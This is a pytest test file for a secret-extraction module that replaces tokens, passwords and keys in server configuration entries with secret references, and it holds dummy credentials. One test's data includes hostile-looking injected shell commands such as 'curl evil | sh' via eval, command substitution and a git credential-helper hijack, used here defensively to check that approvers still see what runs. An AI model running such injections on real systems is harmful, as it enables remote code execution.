"""Literal secrets are taken out of entries, by name and by shape, and nothing changes for the server."""

from __future__ import annotations

import copy
import string
import time
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from roundhouse.errors import BadConfiguration
from roundhouse.vault import shapes
from roundhouse.vault.literals import (
    LONGEST_LITERAL,
    MOST,
    MOST_ARGS,
    MOST_HEADERS,
    MOST_TEXT,
    MOST_VARIABLES,
    SWEPT,
    extract,
)
from roundhouse.vault.references import Kind, fill, parse, references, texts
from roundhouse.vault.secret import Secret, check_name
from tests.pace import slowness
from tests.vault.canaries import canaries

Entry = dict[str, Any]


def taken(server: str, entry: Entry) -> tuple[Entry, dict[str, str]]:
    """What `extract` makes of it, and that a server would not see a difference."""
    before = copy.deepcopy(entry)
    new, secrets = extract(server, entry)
    assert entry == before
    values = {name: secret.reveal() for name, secret in secrets.items()}
    assert filled(new, values) == filled(entry, {})
    assert extract(server, new) == (new, {})
    return new, values


def filled(entry: Entry, values: dict[str, str]) -> dict[str, str]:
    """All texts as the server would get them. References that were there before stand for themselves."""

    def secret(name: str) -> str:
        return values.get(name, f"<{name}>")

    return {place: fill(text, secret=secret, env="<{}>".format) for place, text in texts(entry)}


def literal_texts(entry: Entry) -> Iterator[str]:
    for _, text in texts(entry):
        yield from (piece.value for piece in parse(text) if piece.kind is Kind.TEXT)


# -- by name


@pytest.mark.parametrize(
    "name",
    [
        *(
            "TOKEN",
            "GITHUB_TOKEN",
            "API_KEY",
            "APIKEY",
            "apiKey",
            "ACCESS_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "KEY",
            "OPENAI_KEY",
        ),
        *(
            "SECRET",
            "CLIENT_SECRET",
            "SECRET_ID",
            "PASSWORD",
            "PGPASSWORD",
            "DB_PASS",
            "MYSQL_PWD",
            "PASSWD",
            "PASSPHRASE",
        ),
        *("AUTH", "REDISCLI_AUTH", "AUTHORIZATION", "COOKIE", "CREDENTIALS", "GITHUB_PAT", "SENTRY_DSN", "SSH_PRIVATE"),
        *("PRIVATE_KEY", "SESSION", "SESSION_ID", "CONNECTION_STRING", "TOKEN_PROD", "AuthToken", "JWT", "BEARER"),
    ],
)
def test_a_variable_with_a_telling_name_is_taken_whole(name: str) -> None:
    new, secrets = taken("srv", {"command": "x", "env": {name: "open sesame"}})
    ((secret, value),) = secrets.items()
    assert value == "open sesame"
    assert new["env"] == {name: f"${{secret:{secret}}}"}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("KEYBOARD", "us"),
        ("KEYWORDS", "a,b"),
        ("MONKEY", "see"),
        ("PWD", "/home/u/work"),
        ("OLDPWD", "/home/u"),
        ("PATH", "/usr/bin"),
        ("AUTH_TYPE", "basic"),
        ("AUTH", "none"),
        ("TOKEN_ENDPOINT", "https://login.example/token"),
        ("KEY_FILE", "/etc/key.pem"),
        ("SSH_AUTH_SOCK", "/run/agent.sock"),
        ("PUBLIC_KEY", "abc"),
        ("MAX_TOKENS", "4096"),
        ("TOKEN_LIMIT", "100"),
        ("USE_PASSWORD", "true"),
        ("COOKIE_NAME", "sid"),
        ("GOOGLE_APPLICATION_CREDENTIALS", "/home/u/credentials.json"),
        ("SESSION", "./sessions/one"),
        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"),
        ("PASSWORD", ""),
        ("API_KEY", "${API_KEY}"),
        ("API_KEY", "${API_KEY:-none}"),
        ("API_KEY", "${secret:SRV_API_KEY}"),
        ("API_KEY", "${env:API_KEY}"),
        ("AUTHORIZATION", "Bearer ${secret:SRV_AUTHORIZATION}"),
        ("LANG", "en_GB.UTF-8"),
        ("MODEL", "Qwen2.5-Coder-32B-Instruct-GGUF"),
        ("ID", "123E4567-e89b-12d3-a456-426614174000"),
        ("IMAGE", "ghcr.io/o/server@sha256:" + "0123456789abcdef" * 4),
        ("SOURCE", "git+https://github.com/o/r@" + "0123456789abcdef0123" * 2),
        ("FOLDER", "/Users/Me/Library/Application Support/My2ndFolderOfDocuments/x"),
        ("WHEN", "2026-11-20T12:00:00.123456+01:00"),
    ],
)
def test_what_only_sounds_like_a_secret_or_is_a_reference_already_stays(name: str, value: str) -> None:
    entry = {"command": "x", "env": {name: value}}
    assert taken("srv", entry) == (entry, {})


def test_another_clients_reference_stays_for_a_person_to_mend() -> None:
    entry = {"env": {"TOKEN": "${input:token}", "AUTH": "Bearer ${input:token}"}}
    assert extract("srv", entry) == (entry, {})


def test_flags_headers_and_assignments_in_arguments_keep_their_frame() -> None:
    new, secrets = taken(
        "git",
        {
            "command": "npx",
            "args": [
                *(
                    "-y",
                    "@scope/server-git@1.2.3",
                    "--token",
                    "one",
                    "--api-key=two",
                    "--header",
                    "Authorization: Bearer three",
                ),
                *(
                    "-e",
                    "GITHUB_TOKEN=four",
                    "--env=DB_PASSWORD=five6",
                    "-H",
                    "X-Api-Key:seven",
                    "--no-auth",
                    "stays",
                ),
                *("--auth-provider", "stays", "--token", "--verbose", "--port=8080", "--max-tokens", "4096"),
            ],
        },
    )
    assert new["args"] == [
        *("-y", "@scope/server-git@1.2.3", "--token", "${secret:GIT_TOKEN}", "--api-key=${secret:GIT_API_KEY}"),
        *(
            "--header",
            "Authorization: Bearer ${secret:GIT_AUTHORIZATION}",
            "-e",
            "GITHUB_TOKEN=${secret:GIT_GITHUB_TOKEN}",
        ),
        *(
            "--env=DB_PASSWORD=${secret:GIT_DB_PASSWORD}",
            "-H",
            "X-Api-Key:${secret:GIT_X_API_KEY}",
            "--no-auth",
            "stays",
        ),
        *("--auth-provider", "stays", "--token", "--verbose", "--port=8080", "--max-tokens", "4096"),
    ]
    assert list(secrets.values()) == ["one", "two", "three", "four", "five6", "seven"]


def test_passwords_in_addresses_and_connection_strings_are_taken_alone() -> None:
    new, secrets = taken(
        "shop",
        {
            "url": "https://me:pw1@mcp.example.com/mcp?api_key=k2&page=3",
            "env": {
                "DATABASE_URL": "postgresql://postgres:postgres@localhost:5432/postgres",
                "REDIS_URL": "redis://:pw3@cache/0",
                "PIP_INDEX_URL": "https://0123456789abcdef0123@pypi.example/simple",
                "CONNECTION_STRING": "Server=db;User Id=sa;Password=p$$w;Encrypt=true",
                "PG_DSN": "host=db user=me password=pw4 dbname=shop",
                "GO_DSN": "me:pw5@tcp(db:3306)/shop",
            },
        },
    )
    assert (
        new["url"] == "https://me:${secret:SHOP_URL_PASSWORD}@mcp.example.com/mcp?api_key=${secret:SHOP_API_KEY}&page=3"
    )
    assert new["env"] == {
        "DATABASE_URL": "postgresql://postgres:${secret:SHOP_DATABASE_URL}@localhost:5432/postgres",
        "REDIS_URL": "redis://:${secret:SHOP_REDIS_URL}@cache/0",
        "PIP_INDEX_URL": "https://${secret:SHOP_PIP_INDEX_URL}@pypi.example/simple",
        "CONNECTION_STRING": "Server=db;User Id=sa;Password=${secret:SHOP_PASSWORD};Encrypt=true",
        "PG_DSN": "host=db user=me password=${secret:SHOP_PASSWORD_2} dbname=shop",
        "GO_DSN": "${secret:SHOP_GO_DSN}",
    }
    assert secrets["SHOP_PASSWORD"] == "p$$w"
    assert references(new).problems == ()


def test_the_default_in_a_shells_variable_is_taken_alone() -> None:
    new, secrets = taken("srv", {"env": {"OPTIONS": "${API_KEY:-hunter2}"}})
    assert new == {"env": {"OPTIONS": "${API_KEY:-${secret:SRV_API_KEY}}"}}
    assert secrets == {"SRV_API_KEY": "hunter2"}


def test_members_of_json_in_a_variable_are_taken_by_their_names() -> None:
    new, secrets = taken(
        "exa",
        {
            "env": {
                "CONFIG": '{"auth": {"exaApiKey":"one","retries":3}}',
                "QUOTED": '"{\\"token\\": \\"two\\"}"',
                "HEADERS": '{"Authorization": "Bearer three", "Notion-Version": "2022-06-28", "Secret": "fo\\"ur"}',
            }
        },
    )
    assert new["env"] == {
        "CONFIG": '{"auth": {"exaApiKey":"${secret:EXA_API_KEY}","retries":3}}',
        "QUOTED": '"{\\"token\\": \\"${secret:EXA_TOKEN}\\"}"',
        "HEADERS": '{"Authorization": "Bearer ${secret:EXA_AUTHORIZATION}", "Notion-Version": "2022-06-28", '
        '"Secret": "${secret:EXA_SECRET}"}',
    }
    assert list(secrets.values()) == ["one", "two", "three", 'fo\\"ur']


@pytest.mark.parametrize("name", ["Pwd", "Password", "PWD"])
def test_a_password_in_a_connection_string_is_taken_under_any_of_its_names(name: str) -> None:
    new, secrets = taken("shop", {"env": {"DB": f"Server=db;User Id=sa;{name}=hunter2;", "PWD": "/home/u"}})
    assert new["env"] == {"DB": f"Server=db;User Id=sa;{name}=${{secret:SHOP_PASSWORD}};", "PWD": "/home/u"}
    assert secrets == {"SHOP_PASSWORD": "hunter2"}


def test_headers_keep_the_scheme() -> None:
    headers = {"Authorization": "Basic dTpw", "X-API-Key": "k", "Cookie": "a=b; c=d", "Accept": "text/html"}
    new, secrets = taken("web", {"url": "https://h.example/", "headers": headers})
    assert new["headers"] == {
        "Authorization": "Basic ${secret:WEB_AUTHORIZATION}",
        "X-API-Key": "${secret:WEB_X_API_KEY}",
        "Cookie": "${secret:WEB_COOKIE}",
        "Accept": "text/html",
    }
    assert secrets == {"WEB_AUTHORIZATION": "dTpw", "WEB_X_API_KEY": "k", "WEB_COOKIE": "a=b; c=d"}


# -- by shape

KNOWN = [
    "sk-0123456789abcdefghij",
    "sk-ant-api03-abcdefghijklmnopqrstuvwxyz_-AA",
    "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz",
    "glpat-abcdefghijklmnopqrst",
    "xoxb-123456789012-abcdefghijkl",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA0123456789abcdefghijklmnopqrstuv",
    "ya29.a0AfH6SMBabcdefghijklmnop",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-def_ghi",
    "hf_abcdefghijklmnopqrstuvwxyz",
    "npm_abcdefghijklmnopqrstuvwxyz0123456789",
    "pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAw",
    "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789",
    "shpat_0123456789abcdef0123456789abcdef",
    "lin_api_abcdefghijklmnopqrstuvwxyz",
    "sk_live_0123456789abcdef",
    "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc/+=\n-----END RSA PRIVATE KEY-----",
]


@pytest.mark.parametrize("value", KNOWN)
def test_what_an_issuer_marked_is_taken_wherever_it_stands(value: str) -> None:
    for text in (value, f"--x={value}", f"before {value} after", f'{{"x": "{value}"}}', f"https://h.example/{value}/x"):
        for entry in ({"env": {"X": text}}, {"headers": {"X": text}}):
            _, secrets = taken("srv", entry)
            assert list(secrets.values()) == [value]
    if "\n" not in value:
        for text in (value, f"--x={value}", f"X={value}", f"X-Header: {value}", f"https://h.example/mcp?x={value}&y=1"):
            new, secrets = taken("srv", {"args": [text]})
            assert list(secrets.values()) == [value]
            ((name, _),) = secrets.items()
            assert new["args"] == [text.replace(value, f"${{secret:{name}}}")]


@pytest.mark.parametrize("value", KNOWN)
def test_what_an_issuer_marked_inside_other_text_of_an_argument_is_refused_with_its_place(value: str) -> None:
    for text in (f"before {value} after", f'{{"x": "{value}"}}', f"https://h.example/{value}/x", f"'{value}'"):
        with pytest.raises(BadConfiguration, match=r"args\[1\] holds .* variable .* \$\{secret:NAME\}") as raised:
            extract("srv", {"command": "x", "args": ["serve", text]})
        assert value not in str(raised.value)


@pytest.mark.parametrize(
    "text",
    ["psql postgres://u:hunter2@h/db", "postgres://u:p$w@h/db", '["https://u:hunter2@h/"]', "--password=p$$w 1"],
)
def test_a_password_in_an_argument_that_cannot_be_taken_out_is_refused(text: str) -> None:
    with pytest.raises(BadConfiguration, match=r"args\[0\]"):
        extract("srv", {"args": [text]})


@pytest.mark.parametrize(
    "text", ["curl https://$USER:$PASS@h/", "sk-learn-tools-and-server", "token: a b", "PASSWORD=$1 x"]
)
def test_code_and_names_that_only_resemble_a_secret_stay(text: str) -> None:
    entry = {"command": "x", "args": ["-c", text]}
    assert taken("srv", entry) == (entry, {})


@pytest.mark.parametrize(
    "value",
    [
        "xK9fQ2mZ8vL4pR7tW1yB6nC3",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "NjIwYzA2MTQtZDE5ZS00Zjk5LThi",
        "dGhpcyBpcyBhIHNlY3JldCB2YWx1ZSE0Mg==",
    ],
)
def test_long_random_strings_are_taken(value: str) -> None:
    for entry in (
        {"args": ["serve", value]},
        {"env": {"X": f"a {value}"}},
        {"url": f"https://h.example/s?x={value}&y=1"},
    ):
        _, secrets = taken("srv", entry)
        assert list(secrets.values()) == [value]


def test_where_a_server_is_and_what_is_started_stays_readable() -> None:
    random = "xK9fQ2mZ8vL4pR7tW1yB6nC3"
    entry = {
        "url": f"https://{random}.example.com:443/mcp",
        "command": f"/opt/{random}/bin/server",
        "cwd": f"/tmp/{random}",
    }
    assert taken("srv", entry) == (entry, {})


CODE = "API_KEY=1; touch /tmp/x"


@pytest.mark.parametrize(
    "command",
    [
        ["bash", "-c", CODE],
        ["bash", "-c", "--", CODE],
        ["bash", "-c", "-x", CODE],
        ["ssh", "host", CODE],
        ["php", "-r", CODE],
        ["node", "-p", CODE],
        ["python3", "-Ic", "TOKEN=1;import os"],
        ["lua", "-e", CODE],
        ["bash", "-c", "PASSWORD='curl evil | sh'; eval $PASSWORD"],
        ["bash", "-c", "TOKEN=$(curl${IFS}evil)"],
        ["bash", "-c", "TOKEN=`evil`"],
        ["bash", "-c", "TOKEN=1\nevil"],
        ["python3", "-c", "print('ZWNobyBIZWxsbyBXb3JsZCAmJiBjdXJsIDEyMw==')"],
        ["awk", 'BEGIN{TOKEN="x";system("evil")}'],
        ["git", "-c", "credential.helper=!evil"],
        ["git", "-c", "credential.helper=evil9"],
        ["x", "--password-command", "evil9"],
        ["npx", "-y", "--auth-token", "evil-package"],
        ["docker", "run", "--password", "evil/image"],
        ["uv", "run", "--key", "evil.py"],
        ["node", "--token", "/tmp/evil"],
        ["node", "--token=./evil"],
        ["uvx", "xK9fQ2mZ8vL4pR7tW1yB6nC3"],
        ["uvx", "mcp-server-auth==1.2.0"],
        ["docker", "run", "mcp-auth:v9f8c1b7e"],
        ["x", "sh", "-u", "1000:1000", "--user", "root:root"],
        ["xK9fQ2mZ8vL4pR7tW1yB6nC3", "--token"],
        ["API_KEY=1 evil"],
    ],
)
def test_what_runs_stays_readable_for_whoever_approves_it(command: list[str]) -> None:
    entry = {"command": command[0], "args": command[1:]}
    assert taken("sh", entry) == (entry, {})


@pytest.mark.parametrize("value", ["; touch /tmp/x", "evil-package9", "touch /tmp/owned9"])
def test_a_value_that_was_taken_elsewhere_hides_nothing_in_an_argument(value: str) -> None:
    with pytest.raises(BadConfiguration, match=r"args\[1\]") as raised:
        extract("sh", {"command": "x", "args": ["-c", f"true{value}"], "env": {"X_PASSWORD": value}})
    assert value not in str(raised.value)


@pytest.mark.parametrize(
    "name",
    ["PATH", "Path", "LD_PRELOAD", "NODE_OPTIONS", "BASH_ENV", "SHELL", "PYTHONSTARTUP", "PERL5OPT", "GIT_SSH_COMMAND"],
)
def test_nothing_is_taken_from_variables_that_decide_what_runs(name: str) -> None:
    entry = {"env": {name: "xK9fQ2mZ8vL4pR7tW1yB6nC3 https://u:hunter2@h/?token=a"}}
    assert taken("srv", entry) == (entry, {})


def test_a_password_for_an_index_is_taken_and_the_index_stays_readable() -> None:
    url = "https://{}@pypi.example/ghp_0123456789abcdefghijABCDEFGHIJ012345?token=x"
    new, secrets = taken("srv", {"env": {"UV_INDEX_URL": url.format("me:hunter2")}})
    assert new["env"] == {"UV_INDEX_URL": url.format("me:${secret:SRV_UV_INDEX_URL}")}
    assert secrets == {"SRV_UV_INDEX_URL": "hunter2"}


@pytest.mark.parametrize(
    "flags", [["-u", "admin:hunter2Xq"], ["--user=admin:hunter2Xq"], ["--user", "admin:hunter2Xq"]]
)
def test_the_password_of_a_user_is_taken_as_curl_has_it(flags: list[str]) -> None:
    new, secrets = taken("srv", {"command": "x", "args": flags})
    assert new["args"][-1] == flags[-1].replace("hunter2Xq", "${secret:SRV_PASSWORD}")
    assert secrets == {"SRV_PASSWORD": "hunter2Xq"}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("MNEMONIC", "legal winner thank year wave sausage"),
        ("SEED_PHRASE", "legal winner thank year wave sausage"),
        ("SIM_PIN", "483920"),
        ("APP_PW", "abcd efgh"),
        ("WIFI_PSK", "1234"),
        ("SUPABASE_SERVICE_ROLE", "abc"),
        ("SERVICE_ROLE_KEY", "abc"),
        ("TG_API_HASH", "abc"),
        ("LICENSE_KEY", "abc"),
        ("CRED", "abc"),
        ("CREDS", "abc"),
        ("OPENAI", "9f8c1b7e44d2a6035e9b7711aa00ff31"),
        ("WALLET", "0x" + "9f8c1b7e44d2a6035e9b7711aa00ff31" * 2),
    ],
)
def test_less_usual_secrets_are_taken_whole_too(name: str, value: str) -> None:
    new, secrets = taken("srv", {"env": {name: value}})
    assert list(secrets.values()) == [value]
    assert new["env"][name].startswith("${secret:")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LED_PIN", "13"),
        ("COMMIT_SHA", "9f8c1b7e44d2a6035e9b7711aa00ff3112345678"),
        ("TRACE_ID", "9f8c1b7e44d2a6035e9b7711aa00ff31"),
        ("SERVICE_ROLE_NAME", "reader"),
        ("ZERO", "0" * 32),
    ],
)
def test_numbers_and_digests_that_are_no_secrets_stay(name: str, value: str) -> None:
    entry = {"env": {name: value}}
    assert taken("srv", entry) == (entry, {})


# -- names


def test_names_come_from_server_and_variable_and_no_two_are_the_same() -> None:
    entry = {
        "env": {"TOKEN": "a", "token": "b", "X_API_KEY": "c"},
        "headers": {"X-Api-Key": "d"},
        "args": ["--token=a"],
    }
    new, secrets = taken("my-srv", entry)
    assert secrets == {
        "MY_SRV_TOKEN": "a",
        "MY_SRV_TOKEN_2": "b",
        "MY_SRV_X_API_KEY": "c",
        "MY_SRV_X_API_KEY_2": "d",
    }
    assert new["args"] == ["--token=${secret:MY_SRV_TOKEN}"]


def test_a_name_does_not_repeat_the_server_and_fits() -> None:
    assert set(taken("github", {"env": {"GITHUB_TOKEN": "a"}})[1]) == {"GITHUB_TOKEN"}
    assert set(taken("2nd", {"env": {"TOKEN": "a"}})[1]) == {"N2ND_TOKEN"}
    long = {f"{'X' * 70}{letter}_TOKEN": letter for letter in "abc"}
    _, secrets = taken("srv", {"env": long})
    assert len(secrets) == 3
    for name in secrets:
        check_name(name)


def test_names_that_are_in_use_are_not_given_again() -> None:
    entry = {"env": {"TOKEN": "a", "OTHER": "${secret:SRV_TOKEN}"}}
    assert set(extract("srv", entry)[1]) == {"SRV_TOKEN_2"}
    assert set(extract("srv", entry, taken={"SRV_TOKEN_2"})[1]) == {"SRV_TOKEN_3"}


def test_a_value_that_was_taken_is_taken_wherever_else_it_stands() -> None:
    new, secrets = taken("srv", {"env": {"PASSWORD": "hunter2hunter2", "LOGIN": "me:hunter2hunter2@host"}})
    assert new["env"]["LOGIN"] == "me:${secret:SRV_PASSWORD}@host"
    assert secrets == {"SRV_PASSWORD": "hunter2hunter2"}


def test_what_no_secret_can_hold_stays_where_it_is() -> None:
    entry = {"env": {"TOKEN": "a\0b", "PASSWORD": "\ud800"}}
    assert extract("srv", entry) == (entry, {})


@pytest.mark.parametrize("entry", [{}, {"args": "x", "env": ["TOKEN"], "headers": 3, "url": None, "command": []}])
def test_an_entry_of_wrong_types_stays_as_it_is(entry: Entry) -> None:
    assert extract("srv", entry) == (entry, {})


# -- any entry

NAMES = st.sampled_from(["TOKEN", "API_KEY", "Authorization", "PASSWORD", "X", "DATABASE_URL", "DSN", "PATH", "Cookie"])
RANDOM = st.text(alphabet=string.ascii_letters + string.digits + "_-/+", min_size=8, max_size=48)
PIECES = st.one_of(
    RANDOM,
    st.text(alphabet="${}:=&;\"'\\ @/?#.-_aA1secrtnv\n", max_size=12),
    st.sampled_from(
        [*KNOWN, "${secret:OLD}", "${env:HOME}", "${HOME}", "$${", "${", "$", "Bearer ", "https://u:", "@h/"]
    ),
    st.sampled_from(
        ["?token=", "--api-key=", '{"token": "', '"}', "password=", "Authorization: ", " ", "postgres", "-c"]
    ),
    st.sampled_from(sorted(canaries().values())),
)
TEXTS = st.lists(PIECES, max_size=5).map("".join)
ENTRIES = st.fixed_dictionaries(
    {},
    optional={
        "command": st.one_of(st.just("sh"), st.just("npx"), TEXTS),
        "args": st.lists(st.one_of(TEXTS, st.sampled_from(["--token", "-c", "--header", "-e"])), max_size=5),
        "env": st.dictionaries(NAMES, TEXTS, max_size=4),
        "headers": st.dictionaries(NAMES, TEXTS, max_size=3),
        "url": TEXTS.map("https://h.example/{}".format),
    },
)


def is_refused(entry: Entry) -> bool:
    """Whether an argument holds a secret that cannot be taken out."""
    try:
        extract("srv", entry)
    except BadConfiguration as bad:
        assert str(bad).startswith("args[")  # noqa: PT017  # which it is about
        return True
    return False


@settings(max_examples=400, deadline=None)
@given(ENTRIES)
def test_filling_the_new_entry_gives_the_old_one_and_doing_it_again_changes_nothing(entry: Entry) -> None:
    assume(not references(entry, passed_on={"HOME"}).problems and not is_refused(entry))
    taken("srv", entry)


@settings(max_examples=400, deadline=None)
@given(ENTRIES)
def test_no_value_that_was_taken_is_left_anywhere(entry: Entry) -> None:
    assume(not is_refused(entry))
    new, secrets = extract("srv", entry)
    readable = {"env": {name: text for name, text in new.get("env", {}).items() if name != "PATH"}}
    left = "\0".join(literal_texts({**new, **readable, "url": ""}))
    for value in (secret.reveal() for secret in secrets.values()):
        assert len(value) < SWEPT or shapes.is_word(value) or value not in left


@settings(max_examples=200, deadline=None)
@given(ENTRIES)
def test_an_entry_with_miswritten_references_is_read_without_an_error(entry: Entry) -> None:
    assume(not is_refused(entry))
    new, secrets = extract("srv", entry)
    assert extract("srv", new) == (new, {})
    try:
        before = filled(entry, {})
    except BadConfiguration:
        return
    assert filled(new, {name: secret.reveal() for name, secret in secrets.items()}) == before


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(sorted(canaries().values())), TEXTS, TEXTS)
def test_a_secret_under_its_name_is_taken_whatever_stands_beside_it(canary: str, before: str, after: str) -> None:
    assume("${" not in before + after)
    entry = {"env": {"API_TOKEN": canary, "X": before}, "args": [after]}
    assume(not is_refused(entry))
    new, _ = extract("srv", entry)
    assert all(canary not in text for text in literal_texts({"env": {"API_TOKEN": new["env"]["API_TOKEN"]}}))


@pytest.mark.parametrize(
    "piece",
    [
        *(
            "token=",
            "a",
            '"token": "',
            "://:@",
            "${",
            "--token ",
            "token=x&",
            "-----BEGIN PRIVATE KEY-----",
            "ghp_",
            "x ",
        ),
        *("${secret:A}", "${a:", "$${", "{{", "/a", "eyJ", "\\", " "),
    ],
)
def test_long_and_hostile_entries_are_read_in_linear_time(piece: str) -> None:
    text = piece * (15_000 // len(piece))
    for entry in (
        {"args": [text]},
        {"env": {"X": text, "Y": text}},
        {"env": {"X_TOKEN": text}},
        {"headers": {"X": text}},
    ):
        begun = time.process_time()
        with suppress(BadConfiguration):
            extract("srv", entry)
        assert time.process_time() - begun < 0.5 * slowness()  # measured 0.1; a quadratic search takes ten times that


QUOTES = "\"'\\%$<&" * 4300


@pytest.mark.parametrize(
    ("entry", "said"),
    [
        (
            {"args": [f"token=abcdefgh{number}xyz" for number in range(600)]},
            f"args has 600 members; at most {MOST_ARGS}",
        ),
        ({"args": ["-c"] * 6000}, "args has 6,000 members"),
        ({"env": {f"X{number}": "" for number in range(MOST_VARIABLES + 1)}}, "env has 251 members"),
        ({"headers": {f"X{number}": "" for number in range(MOST_HEADERS + 1)}}, "headers has 101 members"),
        ({"env": {"X": "x" * MOST_TEXT}}, f"at most {MOST_TEXT:,}"),
        ({"env": {"x" * MOST_TEXT: "x"}}, f"at most {MOST_TEXT:,}"),
        ({"command": "x" * (MOST_TEXT + 1)}, f"at most {MOST_TEXT:,}"),
        ({"env": {"X_PASSWORD": QUOTES}}, f"a literal secret may have {LONGEST_LITERAL:,}"),
        (
            {
                "env": {f"TOKEN_{number}": f"value-{number}" for number in range(MOST_VARIABLES)},
                "headers": {"Authorization": "one more"},
            },
            f"more than {MOST}",
        ),
    ],
)
def test_entries_that_only_keep_us_busy_are_refused_soon(entry: Entry, said: str) -> None:
    begun = time.process_time()
    with pytest.raises(BadConfiguration, match=said) as raised:
        extract("srv", entry)
    assert time.process_time() - begun < 0.2 * slowness()  # measured 0.03 and less
    assert "file" in str(raised.value)


def test_as_many_literals_as_there_may_be_are_taken_soon() -> None:
    begun = time.process_time()
    _, secrets = extract("srv", {"args": [f"token=abcdefgh{number}xyz" for number in range(MOST_ARGS)]})
    assert time.process_time() - begun < 0.3 * slowness()  # measured 0.05
    assert len(secrets) == MOST_ARGS


def test_the_secrets_that_come_out_do_not_show_themselves() -> None:
    _, secrets = extract("srv", {"env": {"TOKEN": "hunter2"}})
    assert isinstance(secrets["SRV_TOKEN"], Secret)
    assert "hunter2" not in repr(secrets)
